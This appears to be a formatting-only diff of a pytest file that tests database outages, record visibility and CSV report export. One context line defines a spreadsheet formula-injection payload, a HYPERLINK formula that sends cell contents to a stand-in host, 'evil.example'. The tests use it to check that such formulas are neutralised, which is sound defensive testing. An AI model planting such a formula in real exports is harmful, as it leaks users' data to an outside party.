@@ -112,7 +112,9 @@ def unreachable(backend: str, tmp_path: Path) -> Engine:
     return make_engine(f"postgresql://postgres@127.0.0.1:{closed_port()}/test", poolclass=NullPool)
 
 
-@pytest.mark.parametrize("backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
+@pytest.mark.parametrize(
+    "backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
+)
 def test_a_database_that_refuses_connections_gives_503_with_retry_after(
     backend: str, tmp_path: Path
 ) -> None:
@@ -329,7 +331,7 @@ def test_members_request_admins_request_on_behalf_engineers_comment(
     assert r.status_code == 404  # p1 is invisible to bob: the visibility rule holds
 
 
-# --- the CSV report in a spreadsheet -------------------------------------------------------------
+# --- the CSV report in a spreadsheet ------------------------------------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -363,7 +365,7 @@ def test_a_formula_in_a_pool_unit_is_neutralised_and_negative_numbers_stay_numbe
             assert not value.startswith("-") or value.replace(".", "").lstrip("-").isdigit()
 
 
-# --- hours written properly are taken --------------------------------------------------------------
+# --- hours written properly are taken -----------------------------------------------------------
 
 
 @pytest.mark.parametrize(
